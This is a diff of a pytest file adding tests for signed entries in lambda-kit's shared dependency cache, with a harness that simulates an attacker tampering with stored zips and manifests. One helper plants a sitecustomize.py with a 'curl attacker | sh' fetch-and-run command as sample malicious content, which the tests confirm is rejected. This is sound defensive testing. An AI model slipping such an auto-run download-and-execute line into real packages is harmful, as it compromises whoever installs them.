@@ -5,17 +5,20 @@ empty state and no docker on PATH, gets the same bytes from the store."""
 from __future__ import annotations
 
 import hashlib
+import io
+import json
 import os
 import shutil
 import socket
 import subprocess
 import uuid
+import zipfile
 from pathlib import Path
 
 import pytest
 
 from conftest import BASE_IMAGE, RUNTIME, copy_sample, kit_env, make, make_at_once, path_without_docker
-from lambda_kit import auditnative, sharedcache
+from lambda_kit import auditnative, cachefacts, cachesign, sharedcache
 from lambda_kit.buildplan import PackageSettings, resolve
 from lambda_kit.package import dependency_key
 
@@ -37,6 +40,14 @@ def aws_env(local_aws) -> dict[str, str]:
 
 def warnings(result: subprocess.CompletedProcess) -> list[str]:
     return [line for line in result.stdout.splitlines() if line.startswith("lambda-kit: warning:")]
+
+
+def unsigned(url: str) -> str:
+    """The first line of every use of a store without keys."""
+    return (
+        f"lambda-kit: warning: cache {url}: entries are unsigned, so anyone who can write to it can change what "
+        "the builds that read it ship (make cache-keygen: CACHE_SIGNING_KEY, CACHE_TRUSTED_KEYS)"
+    )
 
 
 def dep_key(result: subprocess.CompletedProcess) -> str:
@@ -125,13 +136,25 @@ def test_wheelhouse_files_from_the_store_are_verified_and_bounded(tmp_path, monk
         path = store / "wheels" / digests[name] / name
         path.parent.mkdir(parents=True)
         path.write_bytes(b"evil" * 10 if name.startswith("tampered") else data)
+    # The lock's bytes under a name the lock gives another package, or another version: the
+    # installer would take them for what the name says.
+    for renamed in ("huge-1.0-py3-none-any.whl", "good-2.0-py3-none-any.whl"):
+        (store / "wheels" / digests["good-1.0-py3-none-any.whl"] / renamed).write_bytes(
+            files["good-1.0-py3-none-any.whl"]
+        )
     monkeypatch.setattr(sharedcache, "MAX_OBJECT_BYTES", 100)
     said = []
     sharedcache.SharedCache(str(store), True, said.append).fetch_wheels(lock, wheelhouse)
     assert sorted(p.name for p in wheelhouse.iterdir()) == ["good-1.0-py3-none-any.whl"]
     assert (wheelhouse / "good-1.0-py3-none-any.whl").read_bytes() == files["good-1.0-py3-none-any.whl"]
-    refused = [line for line in said if line.startswith("lambda-kit: warning:")]
-    assert len(refused) == 2
+    assert said[0] == unsigned(str(store))
+    refused = [line for line in said[1:] if line.startswith("lambda-kit: warning:")]
+    assert len(refused) == 4
+    assert sorted(line.split("/")[-1].split()[0] for line in refused[:2]) == [
+        "good-2.0-py3-none-any.whl",
+        "huge-1.0-py3-none-any.whl",
+    ]
+    assert all("has a file name for another package or version than the lock's for its hash" in r for r in refused[:2])
     tampered = (
         f"wheels/{digests['tampered-1.0-py3-none-any.whl']}/tampered-1.0-py3-none-any.whl does not match its SHA-256"
     )
@@ -153,7 +176,8 @@ def test_folder_store_agent_b_gets_the_same_zip_without_docker_and_a_tampered_ob
     second = agent(b, str(store), "BUILDER=local", PATH=without_docker(tmp_path))
     assert second.returncode == 0, second.stderr + second.stdout
     assert f"lambda-kit: dependencies from cache {store} (key {key}), no build needed (" in second.stdout
-    assert "local build" not in second.stdout and warnings(second) == []
+    assert "local build" not in second.stdout and warnings(second) == [unsigned(str(store))]
+    assert second.stdout.splitlines()[0] == unsigned(str(store))  # the first line of the store's use
     assert (b / "build.zip").read_bytes() == expected
     assert auditnative.load_facts(b / ".lambda-kit" / "audit-native.json")  # the audit's facts came along
     assert auditnative.load_facts(b / ".lambda-kit" / "audit-needed.json")  # and the libraries each needs
@@ -165,7 +189,8 @@ def test_folder_store_agent_b_gets_the_same_zip_without_docker_and_a_tampered_ob
     c = copy_sample(tmp_path / "agent-c" / "ws")
     third = agent(c, str(store), "BUILDER=local", PATH=without_docker(tmp_path))
     assert third.returncode == 0, third.stderr + third.stdout
-    (refused,) = warnings(third)
+    first_line, refused = warnings(third)
+    assert first_line == unsigned(str(store))
     assert f"deps/{zipped.stem}.zip (key {key}) does not match its SHA-256" in refused
     assert "local build (no Docker)" in third.stdout
     assert "of the lock's files from cache" in third.stdout  # the wheels came from the store, not PyPI
@@ -205,7 +230,8 @@ def test_s3_store_agent_b_gets_the_same_zip_and_a_truncated_object_is_refused_by
     c = copy_sample(tmp_path / "agent-c" / "ws")
     third = agent(c, url, "BUILDER=local", "CACHE_PUSH=0", PATH=without_docker(tmp_path), **aws_env(local_aws))
     assert third.returncode == 0, third.stderr + third.stdout
-    (refused,) = warnings(third)
+    first_line, refused = warnings(third)
+    assert first_line == unsigned(url)
     assert f"(key {key}) does not match its SHA-256 ({len(whole) // 3:,} bytes" in refused
     assert "local build (no Docker)" in third.stdout and "pushed to cache" not in third.stdout
     assert (c / "build.zip").read_bytes() == expected
@@ -217,16 +243,20 @@ def test_two_agents_pushing_the_same_key_at_once_both_succeed(sample, tmp_path, 
     s3, bucket = new_bucket(local_aws)
     url = f"s3://{bucket}"
     other = copy_sample(tmp_path / "agent-2" / "ws")
-    env = kit_env(CACHE_URL=url, **aws_env(local_aws))
+    writer = Fleet(tmp_path / "keys")
+    env = kit_env(CACHE_URL=url, CACHE_SIGNING_KEY=writer.private, **aws_env(local_aws))
     results = make_at_once([sample, other], "package", "BUILDER=local", env=env)
     for out, err, code in results:
         assert code == 0, err + out
         assert "lambda-kit: warning" not in out
     assert sum("lambda-kit: pushed to cache" in out for out, _, _ in results) == 2  # both missed, built and pushed
     assert (sample / "build.zip").read_bytes() == (other / "build.zip").read_bytes()
-    assert_verified(
-        s3_snapshot(s3, bucket), lambda name: s3.get_object(Bucket=bucket, Key=name)["Body"].read().decode()
-    )
+    stored = s3_snapshot(s3, bucket)
+    assert_verified(stored, lambda name: s3.get_object(Bucket=bucket, Key=name)["Body"].read().decode())
+    (manifest,) = [k for k in stored if k.endswith(".manifest")]
+    key = manifest[len("deps/") : -len(".manifest")]
+    signed = writer.verifier.check(s3.get_object(Bucket=bucket, Key=manifest)["Body"].read(), key)[1]
+    assert {n: d for n, (_, d) in signed.items()} == {n: stored[n] for n in signed}  # the last push's objects
 
 
 @pytest.mark.network
@@ -238,7 +268,8 @@ def test_an_unreachable_store_is_one_warning_and_the_build_goes_on(sample):
             "AWS_DEFAULT_REGION": "us-east-1", "AWS_CONFIG_FILE": os.devnull}  # fmt: skip
     result = agent(sample, "s3://no-such-store/deps", "BUILDER=local", **fake)
     assert result.returncode == 0, result.stderr + result.stdout
-    (warning,) = warnings(result)
+    first_line, warning = warnings(result)
+    assert first_line == unsigned("s3://no-such-store/deps")
     assert warning.startswith(
         "lambda-kit: warning: cache s3://no-such-store/deps unreachable while looking up the dependencies ("
     )
@@ -272,8 +303,8 @@ def test_a_fifo_planted_in_the_folder_store_is_one_warning_not_a_hang(tmp_path):
     said = []
     cache = sharedcache.SharedCache(str(store), True, said.append)
     assert cache.restore(["a" * 64], lambda key, path, digest: path, tmp_path / "work") is None
-    assert len(said) == 1
-    assert said[0].startswith(
+    assert len(said) == 2 and said[0] == unsigned(str(store))
+    assert said[1].startswith(
         f"lambda-kit: warning: cache {store} unreachable while looking up the dependencies (not a regular file"
     )
 
@@ -287,11 +318,11 @@ def test_audit_facts_from_the_store_are_merged_only_when_they_are_facts(tmp_path
     )
     for entries in ({"b.so|1|2": []}, {"b.so|1|2": ["elf", "x86_64", "2", 17]}, {"b.so": ["other"]}):
         auditnative.save_facts(bad, entries)  # verified, but not facts
-        assert not sharedcache.merge_native_facts(bad, target)
+        assert not cachefacts.merge_native_facts(bad, target)
     for text in ('["elf"]', "not json", '{"b.so|1|2": ["other", "x"]}'):  # not a verified facts file at all
         bad.write_text(text)
-        assert not sharedcache.merge_native_facts(bad, target)
-    assert sharedcache.merge_native_facts(good, target)
+        assert not cachefacts.merge_native_facts(bad, target)
+    assert cachefacts.merge_native_facts(good, target)
     merged = auditnative.load_facts(target)
     assert merged == {"a.so|00000001|10": ["elf", "x86_64", 2, 17], "b.so|00000002|20": ["other", "Mach-O"],
                       "c.so|00000003|30": ["elf", "x86_64", 2, 28]}  # fmt: skip
@@ -304,17 +335,176 @@ def test_bytecode_verdicts_and_needed_libraries_from_the_store_are_merged_only_i
     verdicts = {"bytecode|3.12|a.pyc|00000001|00000002": [],
                 "bytecode|3.12|b.pyc|00000003|ffffffff": ["bytecode-orphan", "bytecode without its source"]}  # fmt: skip
     auditnative.save_facts(source, verdicts)
-    assert sharedcache.merge_native_facts(source, natives)
+    assert cachefacts.merge_native_facts(source, natives)
     assert auditnative.load_facts(natives) == verdicts
     auditnative.save_facts(source, {"bytecode|3.12|c.pyc|1|2": ["bytecode-stale"]})
-    assert not sharedcache.merge_native_facts(source, natives)
+    assert not cachefacts.merge_native_facts(source, natives)
 
     links = {"a.so|00000001|10": [[["libc.so.6", "libm.so.6"], [], ["$ORIGIN/../lib"]]], "b.so|00000002|20": [None]}
     auditnative.save_facts(source, links)
-    assert not sharedcache.merge_native_facts(source, natives)  # not native facts
-    assert sharedcache.merge_native_facts(source, needed, sharedcache._is_links_entry)
+    assert not cachefacts.merge_native_facts(source, natives)  # not native facts
+    assert cachefacts.merge_native_facts(source, needed, cachefacts.is_links_entry)
     assert auditnative.load_facts(needed) == links
     for entry in ([], [None, None], [[["libc.so.6"], []]], [[["libc.so.6"], [], [1]]], ["elf", "x86_64", 2, 17]):
         auditnative.save_facts(source, {"c.so|00000003|30": entry})
-        assert not sharedcache.merge_native_facts(source, needed, sharedcache._is_links_entry)
+        assert not cachefacts.merge_native_facts(source, needed, cachefacts.is_links_entry)
     assert auditnative.load_facts(needed) == links
+
+
+# ---- signed entries: CACHE_SIGNING_KEY writes, CACHE_TRUSTED_KEYS reads ----
+
+
+class Fleet:
+    """A key pair made by `make cache-keygen`'s code, and the checks a reader makes with it."""
+
+    def __init__(self, folder: Path, name: str = "cache.key") -> None:
+        folder.mkdir(parents=True, exist_ok=True)
+        cachesign.keygen(folder / name, lambda line: None)
+        self.private, self.public = str(folder / name), str(folder / f"{name}.pub")
+        self.signer = cachesign.Signer(cachesign.from_environment({"CACHE_SIGNING_KEY": self.private}))
+        self.verifier = cachesign.Verifier({self.signer.id: self.signer.public})
+
+
+class StoreView:
+    """The store as an attacker with write access sees it: objects by name, read and replaced."""
+
+    def __init__(self, url: str, s3=None, bucket: str = "", prefix: str = "") -> None:
+        self.url, self.s3, self.bucket, self.prefix = url, s3, bucket, prefix
+
+    def read(self, name: str) -> bytes:
+        if self.s3 is None:
+            return (Path(self.url) / name).read_bytes()
+        return self.s3.get_object(Bucket=self.bucket, Key=self.prefix + name)["Body"].read()
+
+    def write(self, name: str, data: bytes) -> None:
+        if self.s3 is None:
+            (Path(self.url) / name).write_bytes(data)
+        else:
+            self.s3.put_object(Bucket=self.bucket, Key=self.prefix + name, Body=data)
+
+    def delete(self, name: str) -> None:
+        if self.s3 is None:
+            (Path(self.url) / name).unlink()
+        else:
+            self.s3.delete_object(Bucket=self.bucket, Key=self.prefix + name)
+
+    def snapshot(self) -> dict[str, str]:
+        """Every object's SHA-256, by name under the URL."""
+        if self.s3 is None:
+            return folder_snapshot(Path(self.url))
+        return {k[len(self.prefix) :]: v for k, v in s3_snapshot(self.s3, self.bucket).items()}
+
+
+def with_module_added(data: bytes) -> bytes:
+    """deps.zip with a module added: what an attacker who can write the store would ship."""
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a") as zf:
+        zf.writestr("sitecustomize.py", "import os; os.system('curl attacker | sh')\n")
+    return buffer.getvalue()
+
+
+def attack(view: StoreView, key: str, how: str, writer: Fleet, stranger: Fleet) -> str:
+    """Change the store's entry for `key` as an attacker would; returns what the reader's one
+    warning must say about deps/<key>.zip."""
+    name, envelope = f"deps/{key}.zip", f"deps/{key}.manifest"
+    genuine = json.loads(view.read(envelope))
+    evil = with_module_added(view.read(name))
+    digest = hashlib.sha256(evil).hexdigest()
+    view.write(name, evil)
+    view.write(name + ".sha256", f"{digest}\n".encode())  # the digest beside it matches, as in the issue
+    facts = {n: o for n, o in writer.verifier.check(view.read(envelope), key)[1].items() if n != name}
+    if how == "re-signed by an untrusted key":
+        view.write(envelope, stranger.signer.envelope(key, {**facts, name: (len(evil), digest)}))
+        return f"is signed by key {stranger.signer.id}, which is not a trusted key (CACHE_TRUSTED_KEYS)"
+    if how == "unsigned":
+        view.delete(envelope)
+        return "is not signed (trusted keys are set: nothing unsigned is used)"
+    if how == "another key's manifest":  # a genuine signed entry of another key, copied under this one
+        other = hashlib.sha256(b"another lock").hexdigest()
+        view.write(envelope, writer.signer.envelope(other, {f"deps/{other}.zip": (len(evil), digest)}))
+        return f"has a manifest signed by key {writer.signer.id} for another dependency key ({other[:12]})"
+    if how == "object swapped":  # the manifest as signed, the zip replaced
+        return (
+            f"does not match its manifest signed by key {writer.signer.id} ({len(evil):,} bytes, sha256 {digest[:12]}"
+        )
+    assert how == "truncated signature"
+    cut = json.dumps({**genuine, "signature": genuine["signature"][:43]}).encode()
+    view.write(envelope, cut)
+    return f"has a signature by key {writer.signer.id} that does not verify"
+
+
+ATTACKS = (
+    "re-signed by an untrusted key",
+    "unsigned",
+    "another key's manifest",
+    "object swapped",
+    "truncated signature",
+)
+
+
+@pytest.mark.network
+@pytest.mark.parametrize("kind", ["folder", "s3"])
+def test_a_reader_uses_only_entries_a_trusted_key_signed_and_rebuilds_after_each_attack(tmp_path, kind, request):
+    """Main-branch agents sign (CACHE_SIGNING_KEY), pull-request agents only read (CACHE_TRUSTED_KEYS):
+    each of the five changes an attacker with write access can make is one warning naming the entry
+    and the key id, a rebuild that ships the clean build's bytes, and a store left as it was."""
+    writer, stranger = Fleet(tmp_path / "ci-keys"), Fleet(tmp_path / "attacker-keys")
+    env: dict[str, str] = {}
+    if kind == "folder":
+        url = str(tmp_path / "shared-mount")
+        Path(url).mkdir()
+        view = StoreView(url)
+    else:
+        local_aws = request.getfixturevalue("local_aws")
+        s3, bucket = new_bucket(local_aws)
+        url, env = f"s3://{bucket}/fleet", aws_env(local_aws)
+        view = StoreView(url, s3, bucket, "fleet/")
+    main = copy_sample(tmp_path / "main-agent" / "ws")
+    built = agent(main, url, "BUILDER=local", CACHE_SIGNING_KEY=writer.private, **env)
+    assert built.returncode == 0, built.stderr + built.stdout
+    assert built.stdout.splitlines()[0] == (
+        f"lambda-kit: cache {url}: signed entries only (trusted keys {writer.signer.id}); "
+        f"this agent signs what it pushes with key {writer.signer.id}"
+    )
+    assert f"signed with key {writer.signer.id}): deps.zip and 11 wheelhouse files" in built.stdout
+    expected, key = (main / "build.zip").read_bytes(), dep_key(built)
+    (full_key,) = [n[len("deps/") : -len(".manifest")] for n in view.snapshot() if n.endswith(".manifest")]
+    clean = view.snapshot()
+    clean_bytes = {name: view.read(name) for name in clean}
+    no_docker = without_docker(tmp_path)
+    reader = dict(CACHE_TRUSTED_KEYS=writer.public, PATH=no_docker, **env)  # CACHE_PUSH left empty: read only
+
+    hit = agent(copy_sample(tmp_path / "pr-agent" / "ws"), url, "BUILDER=local", **reader)
+    assert hit.returncode == 0, hit.stderr + hit.stdout
+    assert hit.stdout.splitlines()[0] == (
+        f"lambda-kit: cache {url}: signed entries only (trusted keys {writer.signer.id}); this agent only reads"
+    )
+    assert f"dependencies from cache {url} (key {key}), no build needed" in hit.stdout and warnings(hit) == []
+    assert (tmp_path / "pr-agent" / "ws" / "build.zip").read_bytes() == expected
+
+    for n, how in enumerate(ATTACKS):
+        said = attack(view, full_key, how, writer, stranger)
+        attacked = view.snapshot()
+        assert attacked != clean
+        ws = copy_sample(tmp_path / f"pr-{n}" / "ws")
+        result = agent(ws, url, "BUILDER=local", **reader)
+        assert result.returncode == 0, how + result.stderr + result.stdout
+        (warning,) = warnings(result)
+        assert warning.startswith(f"lambda-kit: warning: cache {url}: deps/{full_key}.zip (key {key}) {said}"), how
+        assert warning.endswith(": ignored")
+        assert "local build (no Docker)" in result.stdout and "no build needed" not in result.stdout, how
+        assert (ws / "build.zip").read_bytes() == expected, how  # the clean build's bytes, never the module
+        assert view.snapshot() == attacked, how  # a reader never writes
+        for name, digest in clean.items():  # the entry put back for the next attack
+            if attacked.get(name) != digest:
+                view.write(name, clean_bytes[name])
+        assert view.snapshot() == clean
+
+    # A writer that meets a changed entry rebuilds it and pushes it signed again: readers hit again.
+    attack(view, full_key, "object swapped", writer, stranger)
+    again = agent(
+        copy_sample(tmp_path / "main-agent-2" / "ws"), url, "BUILDER=local", CACHE_SIGNING_KEY=writer.private, **env
+    )
+    assert again.returncode == 0, again.stderr + again.stdout
+    assert len(warnings(again)) == 1 and "lambda-kit: pushed to cache" in again.stdout
+    assert view.snapshot() == clean
